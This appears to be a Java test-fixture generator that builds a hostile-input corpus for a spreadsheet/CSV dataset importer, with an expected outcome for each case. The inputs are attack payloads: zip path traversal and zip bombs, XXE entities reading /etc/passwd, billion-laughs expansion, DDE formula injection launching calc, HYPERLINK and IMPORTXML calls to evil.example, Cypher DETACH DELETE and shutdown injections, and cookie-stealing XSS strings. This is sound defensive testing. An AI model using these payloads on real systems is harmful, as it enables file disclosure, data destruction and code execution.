package org.dutychain.ingest;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.dutychain.config.ImportLimits;
import org.springframework.util.unit.DataSize;

/**
 * Generates the hostile-input corpus (issue 9) into a folder: well over a hundred
 * malformed or malicious datasets, each with what must happen to it. Nothing is committed
 * as a binary; every file is written here. Each case is a CSV folder, a .zip or an .xlsx
 * around a three-unit base ({@code units.csv} only).
 */
final class HostileCorpus {

	/** What the importer must do with a case. */
	enum Outcome {

		/** Rejected with a problem of {@link Case#code}; nothing changes. */
		REJECTED,
		/**
		 * Accepted; the third unit is stored with exactly {@link Case#id} and
		 * {@link Case#name}.
		 */
		STORED

	}

	/**
	 * One file of the corpus.
	 *
	 * @param heavy large or slow: run once, in the heavy group
	 */
	record Case(String label, Path source, String displayName, Outcome outcome, String code, String id, String name,
			ImportLimits limits, boolean heavy) {

		@Override
		public String toString() {
			return this.label;
		}

	}

	static final String HEADER = "id,name,kind,parent_id,sector,region,members,staff";

	private final Path dir;

	private final List<Case> cases = new ArrayList<>();

	private int n;

	private HostileCorpus(Path dir) {
		this.dir = dir;
	}

	/** Every case, generated into {@code dir}; the heavy ones only when asked. */
	static List<Case> generate(Path dir, boolean heavy) {
		HostileCorpus c = new HostileCorpus(dir);
		c.wrongTypes();
		c.structure();
		c.hugeCells();
		c.encodings();
		c.zips();
		c.workbooks();
		c.formulaText();
		c.cypherFragments();
		c.markup();
		c.depth();
		if (heavy) {
			c.heavy();
		}
		return c.cases;
	}

	// ---- helpers
	// -----------------------------------------------------------------------------

	static String quote(String cell) {
		if (cell.contains(",") || cell.contains("\"") || cell.contains("\n") || cell.contains("\r")) {
			return "\"" + cell.replace("\"", "\"\"") + "\"";
		}
		return cell;
	}

	static String line(String... cells) {
		List<String> q = new ArrayList<>();
		for (String c : cells) {
			q.add(quote(c));
		}
		return String.join(",", q) + "\n";
	}

	/** The base units with the third unit's id and name (and other cells) replaced. */
	static String units(String id, String name, String kind, String parent, String members) {
		return HEADER + "\n" + line("wc", "示范机关工委", "ORGAN_WORK_COMMITTEE", "", "ORGAN", "省直机关", "80", "")
				+ line("cz", "示范财政厅党组", "LEADING_PARTY_GROUP", "wc", "ORGAN", "省直机关", "40", "60")
				+ line(id, name, kind, parent, "ORGAN", "省直机关", members, "15");
	}

	static String units(String id, String name) {
		return units(id, name, "BRANCH", "cz", "12");
	}

	private Path folder() {
		try {
			return Files.createDirectories(this.dir.resolve("case-" + (++this.n)));
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static Path write(Path file, byte[] bytes) {
		try {
			Files.write(file, bytes);
			return file;
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A CSV folder whose units.csv holds these bytes. */
	private Path csvFolder(byte[] units) {
		Path folder = folder();
		write(folder.resolve("units.csv"), units);
		return folder;
	}

	private void rejectCsv(String label, String units, String code) {
		Path f = csvFolder(units.getBytes(StandardCharsets.UTF_8));
		this.cases.add(new Case(label, f, f.getFileName().toString(), Outcome.REJECTED, code, null, null,
				ImportLimits.DEFAULTS, false));
	}

	private void rejectBytes(String label, byte[] units, String code) {
		Path f = csvFolder(units);
		this.cases.add(new Case(label, f, f.getFileName().toString(), Outcome.REJECTED, code, null, null,
				ImportLimits.DEFAULTS, false));
	}

	private void storeCsv(String label, String id, String name) {
		storeCsv(label, id, name, units(id, name), id, name);
	}

	private void storeCsv(String label, String id, String name, String units, String expectedId, String expectedName) {
		storeBytes(label, units.getBytes(StandardCharsets.UTF_8), expectedId, expectedName);
	}

	private void storeBytes(String label, byte[] units, String expectedId, String expectedName) {
		Path f = csvFolder(units);
		this.cases.add(new Case(label, f, f.getFileName().toString(), Outcome.STORED, null, expectedId, expectedName,
				ImportLimits.DEFAULTS, false));
	}

	/** A zip of the given entries (name → bytes). */
	private Path zip(List<Object[]> entries) {
		Path file = this.dir.resolve("case-" + (++this.n) + ".zip");
		try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
			for (Object[] e : entries) {
				zip.putNextEntry(new ZipEntry((String) e[0]));
				if (e[1] instanceof byte[] bytes) {
					zip.write(bytes);
				}
				else if (e[1] instanceof Filler filler) {
					filler.fill(zip);
				}
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return file;
	}

	interface Filler {

		void fill(OutputStream out) throws IOException;

	}

	private void rejectZip(String label, List<Object[]> entries, String code, ImportLimits limits, boolean heavy) {
		Path z = zip(entries);
		this.cases.add(new Case(label, z, "upload.zip", Outcome.REJECTED, code, null, null, limits, heavy));
	}

	private static byte[] utf8(String s) {
		return s.getBytes(StandardCharsets.UTF_8);
	}

	// ---- the cases
	// ---------------------------------------------------------------------------

	private void wrongTypes() {
		for (String members : List.of("abc", "1.5", "１２", "1e3", "NaN", "0x10", "12人", "--1", "1,2,3,4.5")) {
			rejectCsv("members " + members, units("cz-z1", "支部", "BRANCH", "cz", members), "BAD_NUMBER");
		}
		rejectCsv("members negative", units("cz-z1", "支部", "BRANCH", "cz", "-3"), "NEGATIVE_COUNT");
		for (String kind : List.of("NOT_A_KIND", "<b>BRANCH</b>", "BRANCH'; DROP", "党支部x", "PRIMARY")) {
			rejectCsv("kind " + kind, units("cz-z1", "支部", kind, "cz", "12"), "UNKNOWN_ENUM");
		}
		rejectCsv("kind missing", units("cz-z1", "支部", "", "cz", "12"), "MISSING_VALUE");
		rejectCsv("name missing", units("cz-z1", "", "BRANCH", "cz", "12"), "MISSING_VALUE");
		rejectCsv("id missing", units("", "支部", "BRANCH", "cz", "12"), "MISSING_VALUE");
		rejectCsv("dangling parent", units("cz-z1", "支部", "BRANCH", "nowhere", "12"), "DANGLING_REFERENCE");
		rejectCsv("parent is itself", units("cz-z1", "支部", "BRANCH", "cz-z1", "12"), "SELF_LEADERSHIP");
		rejectCsv("duplicate id", units("cz", "支部", "BRANCH", "wc", "12"), "DUPLICATE_ID");
		rejectCsv("cycle", HEADER + "\n" + line("a", "甲", "BRANCH", "b", "ORGAN", "", "3", "")
				+ line("b", "乙", "BRANCH", "a", "ORGAN", "", "3", ""), "LEADS_CYCLE");
		for (String date : List.of("2024-13-01", "2024-02-30", "yesterday", "45000", "=TODAY()", "2024/1/1/1")) {
			Path f = csvFolder(utf8(units("cz-z1", "支部")));
			write(f.resolve("dataset.properties"), utf8("name=日期\nas_of=" + date + "\n"));
			this.cases.add(new Case("as_of " + date, f, f.getFileName().toString(), Outcome.REJECTED, "BAD_DATE", null,
					null, ImportLimits.DEFAULTS, false));
		}
	}

	private void structure() {
		rejectCsv("header only, no kind column", "id,name\nx,y\n", "MISSING_COLUMN");
		rejectCsv("empty units.csv", "", "MISSING_COLUMN");
		Path empty = folder();
		this.cases.add(new Case("empty folder", empty, "empty", Outcome.REJECTED, "MISSING_FILE", null, null,
				ImportLimits.DEFAULTS, false));
		Path notZip = write(this.dir.resolve("case-" + (++this.n) + ".zip"), utf8("this is not a zip"));
		this.cases.add(new Case("a .zip that is text", notZip, "upload.zip", Outcome.REJECTED, "NOT_A_DATASET", null,
				null, ImportLimits.DEFAULTS, false));
		Path exe = write(this.dir.resolve("case-" + (++this.n) + ".exe"), new byte[] { 'M', 'Z', 0, 0 });
		this.cases.add(new Case("an .exe", exe, "upload.exe", Outcome.REJECTED, "NOT_A_DATASET", null, null,
				ImportLimits.DEFAULTS, false));
		Path xls = write(this.dir.resolve("case-" + (++this.n) + ".xls"), new byte[] { (byte) 0xD0, (byte) 0xCF });
		this.cases.add(new Case("an old .xls", xls, "old.xls", Outcome.REJECTED, "NOT_A_DATASET", null, null,
				ImportLimits.DEFAULTS, false));
		byte[] full = utf8(units("cz-z1", "支部"));
		byte[] truncated = java.util.Arrays.copyOf(zipBytes(List.<Object[]>of(new Object[] { "units.csv", full })), 30);
		Path t = write(this.dir.resolve("case-" + (++this.n) + ".zip"), truncated);
		this.cases.add(new Case("truncated zip", t, "upload.zip", Outcome.REJECTED, "NOT_A_DATASET", null, null,
				ImportLimits.DEFAULTS, false));
		Path xlsx = write(this.dir.resolve("case-" + (++this.n) + ".xlsx"), utf8("<html>not a workbook</html>"));
		this.cases.add(new Case("an .xlsx that is HTML", xlsx, "book.xlsx", Outcome.REJECTED, "NOT_A_DATASET", null,
				null, ImportLimits.DEFAULTS, false));
		StringBuilder rows = new StringBuilder(HEADER + "\n");
		for (int i = 0; i < 3000; i++) {
			rows.append("x\n");
		}
		Path f = csvFolder(utf8(rows.toString()));
		this.cases.add(new Case("3000 bad rows: the first errors, then a count", f, "many", Outcome.REJECTED,
				"MORE_PROBLEMS", null, null, ImportLimits.DEFAULTS.withErrors(100), false));
		StringBuilder many = new StringBuilder(HEADER + "\n");
		for (int i = 0; i < 120; i++) {
			many.append(line("u" + i, "单位" + i, "BRANCH", "", "ORGAN", "", "3", ""));
		}
		Path m = csvFolder(utf8(many.toString()));
		this.cases.add(new Case("more rows than rows-per-file", m, "rows", Outcome.REJECTED, "TOO_MANY_ROWS", null,
				null, ImportLimits.DEFAULTS.withRowsPerFile(100), false));
	}

	private void hugeCells() {
		rejectCsv("cell of 10001 characters", units("cz-z1", "长".repeat(10_001)), "CELL_TOO_LONG");
		rejectCsv("quoted cell of 20000 characters with line breaks", units("cz-z1", ("很长的名称\n").repeat(4000)),
				"CELL_TOO_LONG");
		rejectCsv("id of 50000 characters", units("i".repeat(50_000), "支部"), "CELL_TOO_LONG");
		storeCsv("a cell of exactly 10000 characters", "cz-z1", "支部",
				HEADER + "\n" + line("wc", "示范机关工委", "ORGAN_WORK_COMMITTEE", "", "ORGAN", "", "80", "")
						+ line("cz", "示范财政厅党组", "LEADING_PARTY_GROUP", "wc", "ORGAN", "", "40", "60")
						+ line("cz-z1", "支部", "BRANCH", "cz", "ORGAN", "满".repeat(10_000), "12", "15"),
				"cz-z1", "支部");
		storeCsv("a unit name of 500 characters", "cz-z1", "名".repeat(500));
		rejectCsv("a unit name of 501 characters (indexed)", units("cz-z1", "名".repeat(501)), "KEY_TOO_LONG");
		rejectCsv("an id of 501 characters (indexed)", units("i".repeat(501), "支部"), "KEY_TOO_LONG");
		rejectCsv("10000 columns", HEADER + "\n" + "x,".repeat(10_000) + "\n", "UNKNOWN_ENUM");
	}

	private void encodings() {
		byte[] gbk = units("cz-z1", "示范财政厅预算处党支部").getBytes(Charset.forName("GBK"));
		storeBytes("GBK text", gbk, "cz-z1", "示范财政厅预算处党支部");
		byte[] body = utf8(units("cz-z1", "带BOM的支部"));
		byte[] bom = new byte[body.length + 3];
		bom[0] = (byte) 0xEF;
		bom[1] = (byte) 0xBB;
		bom[2] = (byte) 0xBF;
		System.arraycopy(body, 0, bom, 3, body.length);
		storeBytes("UTF-8 with BOM", bom, "cz-z1", "带BOM的支部");
		byte[] bomBad = java.util.Arrays.copyOf(bom, bom.length + 2);
		bomBad[bomBad.length - 2] = (byte) 0xC3;
		bomBad[bomBad.length - 1] = (byte) 0x28;
		rejectBytes("BOM then invalid UTF-8", bomBad, "BAD_ENCODING");
		rejectBytes("UTF-16LE", units("cz-z1", "支部").getBytes(StandardCharsets.UTF_16LE), "BAD_ENCODING");
		rejectBytes("UTF-16 with BOM", units("cz-z1", "支部").getBytes(StandardCharsets.UTF_16), "BAD_ENCODING");
		byte[] nul = utf8(units("cz-z1", "支\u0000部"));
		rejectBytes("NUL in a cell", nul, "BAD_ENCODING");
		byte[] random = new byte[4096];
		new Random(9).nextBytes(random);
		random[0] = (byte) 0x80;
		rejectBytes("random bytes", random, "BAD_ENCODING");
		byte[] invalid = utf8(units("cz-z1", "xx"));
		byte[] bad = java.util.Arrays.copyOf(invalid, invalid.length + 3);
		bad[bad.length - 3] = (byte) 0xFF;
		bad[bad.length - 2] = (byte) 0xFF;
		bad[bad.length - 1] = (byte) 0x0A;
		rejectBytes("invalid UTF-8 and invalid GB18030", bad, "BAD_ENCODING");
		storeCsv("emoji and rare CJK", "cz-z1", "𠀀支部🚩");
		storeCsv("right-to-left override", "cz-z1", "支部\u202Egnp.exe");
	}

	static byte[] zipBytes(List<Object[]> entries) {
		java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			for (Object[] e : entries) {
				zip.putNextEntry(new ZipEntry((String) e[0]));
				zip.write((byte[]) e[1]);
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private void zips() {
		byte[] units = utf8(units("cz-z1", "支部"));
		for (String evil : List.of("../units.csv", "a/../../units.csv", "/etc/units.csv", "C:/units.csv",
				"..\\units.csv", "C:\\Windows\\units.csv", "data/../../../tmp/units.csv")) {
			rejectZip("zip entry " + evil, List.<Object[]>of(new Object[] { evil, units }), "UNSAFE_ZIP_ENTRY",
					ImportLimits.DEFAULTS, false);
		}
		byte[] inner = zipBytes(List.<Object[]>of(new Object[] { "units.csv", units }));
		rejectZip("nested zip", List.<Object[]>of(new Object[] { "inner.zip", inner }), "NESTED_ZIP",
				ImportLimits.DEFAULTS, false);
		rejectZip("nested zip named units.csv", List.<Object[]>of(new Object[] { "units.csv", inner }), "NESTED_ZIP",
				ImportLimits.DEFAULTS, false);
		rejectZip("workbook inside a zip",
				List.<Object[]>of(new Object[] { "units.csv", units }, new Object[] { "book.xlsx", inner }),
				"NESTED_ZIP", ImportLimits.DEFAULTS, false);
		rejectZip("jar inside a zip",
				List.<Object[]>of(new Object[] { "units.csv", units }, new Object[] { "x/evil.jar", inner }),
				"NESTED_ZIP", ImportLimits.DEFAULTS, false);
		List<Object[]> lots = new ArrayList<>();
		for (int i = 0; i < DatasetSources.MAX_ENTRIES + 5; i++) {
			lots.add(new Object[] { "junk/" + i + ".txt", new byte[] { 'x' } });
		}
		rejectZip("a zip of thousands of entries", lots, "NOT_A_DATASET", ImportLimits.DEFAULTS, false);
		rejectZip("small zip bomb (32 MB of one repeated line)",
				List.<Object[]>of(new Object[] { "units.csv", (Filler) (out) -> zeros(out, 32L << 20) }), "ZIP_BOMB",
				ImportLimits.DEFAULTS, false);
		Filler text = (out) -> {
			Random random = new Random(1);
			out.write(utf8(HEADER + "\n"));
			byte[] row = new byte[64];
			for (int i = 0; i < (4 << 20) / 64; i++) {
				for (int j = 0; j < 63; j++) {
					row[j] = (byte) ('a' + random.nextInt(26));
				}
				row[63] = '\n';
				out.write(row);
			}
		};
		rejectZip("entries beyond the decompressed limit",
				List.<Object[]>of(new Object[] { "units.csv", text }, new Object[] { "people.csv", text }), "TOO_LARGE",
				ImportLimits.DEFAULTS.withDecompressed(DataSize.ofMegabytes(6)), false);
		Path gbkNames = zip(List.<Object[]>of(new Object[] { "单位.csv", units }));
		this.cases.add(new Case("Chinese entry name", gbkNames, "upload.zip", Outcome.STORED, null, "cz-z1", "支部",
				ImportLimits.DEFAULTS, false));
		Path emptyZip = zip(List.of());
		this.cases.add(new Case("empty zip", emptyZip, "upload.zip", Outcome.REJECTED, "NOT_A_DATASET", null, null,
				ImportLimits.DEFAULTS, false));
	}

	/**
	 * The same line of letters again and again: deflate shrinks it about a thousand
	 * times.
	 */
	static void zeros(OutputStream out, long bytes) throws IOException {
		byte[] block = new byte[1 << 16];
		java.util.Arrays.fill(block, (byte) 'a');
		for (int i = 99; i < block.length; i += 100) {
			block[i] = '\n';
		}
		for (long written = 0; written < bytes; written += block.length) {
			out.write(block);
		}
	}

	/** A workbook written by hand, so its XML can carry a DOCTYPE. */
	private Path rawXlsx(String sheetXml, String sharedStrings) {
		String types = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
				+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
				+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
				+ "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
				+ "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
				+ ((sharedStrings != null)
						? "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>"
						: "")
				+ "</Types>";
		String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
				+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>";
		String workbook = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
				+ "<sheets><sheet name=\"units\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
		String wbRels = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
				+ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
				+ ((sharedStrings != null)
						? "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings\" Target=\"sharedStrings.xml\"/>"
						: "")
				+ "</Relationships>";
		List<Object[]> entries = new ArrayList<>();
		entries.add(new Object[] { "[Content_Types].xml", utf8(types) });
		entries.add(new Object[] { "_rels/.rels", utf8(rels) });
		entries.add(new Object[] { "xl/workbook.xml", utf8(workbook) });
		entries.add(new Object[] { "xl/_rels/workbook.xml.rels", utf8(wbRels) });
		entries.add(new Object[] { "xl/worksheets/sheet1.xml", utf8(sheetXml) });
		if (sharedStrings != null) {
			entries.add(new Object[] { "xl/sharedStrings.xml", utf8(sharedStrings) });
		}
		Path file = this.dir.resolve("case-" + (++this.n) + ".xlsx");
		return write(file, zipBytes(entries));
	}

	private static String sheet(String doctype, String... rows) {
		StringBuilder b = new StringBuilder("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype
				+ "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>");
		for (int r = 0; r < rows.length; r++) {
			b.append("<row r=\"").append(r + 1).append("\">");
			String[] cells = rows[r].split("\\|", -1);
			for (int c = 0; c < cells.length; c++) {
				b.append("<c r=\"")
					.append((char) ('A' + c))
					.append(r + 1)
					.append("\" t=\"inlineStr\"><is><t>")
					.append(cells[c])
					.append("</t></is></c>");
			}
			b.append("</row>");
		}
		return b.append("</sheetData></worksheet>").toString();
	}

	private void workbooks() {
		String passwd = "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
		Path xxe = rawXlsx(sheet(passwd, "id|name|kind", "wc|&xxe;|ORGAN_WORK_COMMITTEE"), null);
		this.cases.add(new Case("XLSX with an external entity (XXE)", xxe, "xxe.xlsx", Outcome.REJECTED,
				"NOT_A_DATASET", null, null, ImportLimits.DEFAULTS, false));
		String http = "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"http://127.0.0.1:9/x\">]>";
		Path ssrf = rawXlsx(sheet(http, "id|name|kind", "wc|&xxe;|ORGAN_WORK_COMMITTEE"), null);
		this.cases.add(new Case("XLSX with an external http entity", ssrf, "ssrf.xlsx", Outcome.REJECTED,
				"NOT_A_DATASET", null, null, ImportLimits.DEFAULTS, false));
		StringBuilder lol = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY lol \"lol\">");
		String prev = "lol";
		for (int i = 1; i <= 9; i++) {
			lol.append("<!ENTITY lol").append(i).append(" \"").append(("&" + prev + ";").repeat(10)).append("\">");
			prev = "lol" + i;
		}
		lol.append("]>");
		Path laughs = rawXlsx(sheet(lol.toString(), "id|name|kind", "wc|&lol9;|ORGAN_WORK_COMMITTEE"), null);
		this.cases.add(new Case("XLSX billion laughs", laughs, "laughs.xlsx", Outcome.REJECTED, "NOT_A_DATASET", null,
				null, ImportLimits.DEFAULTS, false));
		String sst = "<?xml version=\"1.0\"?>" + lol
				+ "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>&lol9;</t></si></sst>";
		Path laughsShared = rawXlsx(sheet("", "id|name|kind"), sst);
		this.cases.add(new Case("XLSX billion laughs in shared strings", laughsShared, "sst.xlsx", Outcome.REJECTED,
				"NOT_A_DATASET", null, null, ImportLimits.DEFAULTS, false));
		Path inline = rawXlsx(sheet("", "id|name|kind|parent_id", "wc|工委|ORGAN_WORK_COMMITTEE|",
				"cz|党组|LEADING_PARTY_GROUP|wc", "cz-z1|=cmd|' /C calc'!A0|BRANCH|cz"), null);
		this.cases.add(new Case("XLSX inline formula text", inline, "inline.xlsx", Outcome.REJECTED, "UNKNOWN_ENUM",
				null, null, ImportLimits.DEFAULTS, false));
		for (String name : List.of("=HYPERLINK(\"http://evil.example\",\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2",
				"@SUM(A1:A9)", "<script>alert(1)</script>", "x'}) MATCH (n) DETACH DELETE n //")) {
			this.cases.add(poiWorkbook("XLSX name " + name, "cz-z1", name));
		}
	}

	private Case poiWorkbook(String label, String id, String name) {
		Path file = this.dir.resolve("case-" + (++this.n) + ".xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
			XSSFSheet sheet = workbook.createSheet("units");
			String[][] rows = { HEADER.split(","), { "wc", "示范机关工委", "ORGAN_WORK_COMMITTEE", "" },
					{ "cz", "示范财政厅党组", "LEADING_PARTY_GROUP", "wc" }, { id, name, "BRANCH", "cz" } };
			for (int r = 0; r < rows.length; r++) {
				XSSFRow row = sheet.createRow(r);
				for (int c = 0; c < rows[r].length; c++) {
					row.createCell(c).setCellValue(rows[r][c]);
				}
			}
			workbook.write(out);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return new Case(label, file, "book.xlsx", Outcome.STORED, null, id, name, ImportLimits.DEFAULTS, false);
	}

	private void formulaText() {
		for (String name : List.of("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")", "=cmd|' /C calc'!A0", "=1+1",
				"+1+1", "-2+3", "@SUM(A1:A9)", "=IMPORTXML(\"http://evil.example\",\"//a\")",
				"=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")")) {
			storeCsv("formula " + name, "cz-z1", name);
		}
		storeCsv("an exported apostrophe is removed once", "cz-z1", "'=1+1", units("cz-z1", "'=1+1"), "cz-z1", "=1+1");
		storeCsv("two apostrophes keep one", "cz-z1", "''=x", units("cz-z1", "''=x"), "cz-z1", "'=x");
		storeCsv("an apostrophe before plain text stays", "cz-z1", "'支部", units("cz-z1", "'支部"), "cz-z1", "'支部");
		storeCsv("a leading tab is stripped", "cz-z1", "\t=1+1", units("cz-z1", "\t=1+1"), "cz-z1", "=1+1");
		storeCsv("formula id", "=1+1", "支部");
		storeCsv("apostrophe-protected id", "'@x", "支部", units("'@x", "支部"), "@x", "支部");
	}

	private void cypherFragments() {
		for (String name : List.of("x'}) MATCH (n) DETACH DELETE n //", "\") MATCH (n) DETACH DELETE n //",
				"'; CALL dbms.shutdown() //", "$generation", "{generation: 0}", "`Unit`) DETACH DELETE (n",
				"\\u0027 OR 1=1")) {
			storeCsv("cypher name " + name, "cz-z1", name);
		}
		for (String id : List.of("x'}) MATCH (n) DETACH DELETE n //", "a\"b", "id with spaces", "`id`")) {
			storeCsv("cypher id " + id, id, "支部");
		}
	}

	private void markup() {
		for (String name : List.of("<script>alert(1)</script>", "</style><script>alert(document.cookie)</script>",
				"<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}",
				"<iframe src=\"http://127.0.0.1:8080/api/imports\"></iframe>",
				"<link rel=stylesheet href=http://127.0.0.1:1/x.css>", "&lt;b&gt;&amp;")) {
			storeCsv("markup name " + name, "cz-z1", name);
		}
		for (String id : List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>")) {
			storeCsv("markup id " + id, id, "支部");
		}
		storeCsv("newline in a name (log forging)", "cz-z1", "支部\n2025-01-01 INFO forged line");
		storeCsv("carriage return in a name", "cz-z1", "支部\r伪造");
	}

	private void depth() {
		rejectCsv("a chain 65 levels deep", chain(65), "TOO_DEEP");
		Path ok = csvFolder(utf8(chain(64)));
		this.cases.add(new Case("a chain 64 levels deep", ok, "deep64", Outcome.STORED, null, "u63", "单位63",
				ImportLimits.DEFAULTS, false));
		Path deep = csvFolder(utf8(chain(50_000)));
		this.cases.add(new Case("a chain 50000 levels deep", deep, "deep", Outcome.REJECTED, "TOO_DEEP", null, null,
				ImportLimits.DEFAULTS, false));
	}

	static String chain(int depth) {
		StringBuilder b = new StringBuilder(HEADER + "\n");
		for (int i = 0; i < depth; i++) {
			b.append("u")
				.append(i)
				.append(",单位")
				.append(i)
				.append(',')
				.append((i == 0) ? "ORGAN_WORK_COMMITTEE" : "BRANCH")
				.append(',')
				.append((i == 0) ? "" : "u" + (i - 1))
				.append(",ORGAN,,3,\n");
		}
		return b.toString();
	}

	private void heavy() {
		rejectZip("zip bomb: 1 MB expanding to 1 GiB",
				List.<Object[]>of(new Object[] { "units.csv", (Filler) (out) -> zeros(out, 1L << 30) }), "ZIP_BOMB",
				ImportLimits.DEFAULTS, true);

		StringBuilder rows = new StringBuilder(HEADER + "\n");
		for (int i = 0; i < 1_000_000; i++) {
			rows.append("x\n");
		}
		Path million = csvFolder(utf8(rows.toString()));
		this.cases.add(new Case("10^6 invalid rows (2 MB, 3 problems a row)", million, "million", Outcome.REJECTED,
				"MORE_PROBLEMS", null, null, ImportLimits.DEFAULTS, true));
		rejectCsv("a cell of 5 million characters", units("cz-z1", "长".repeat(5_000_000)), "CELL_TOO_LONG");
	}

}
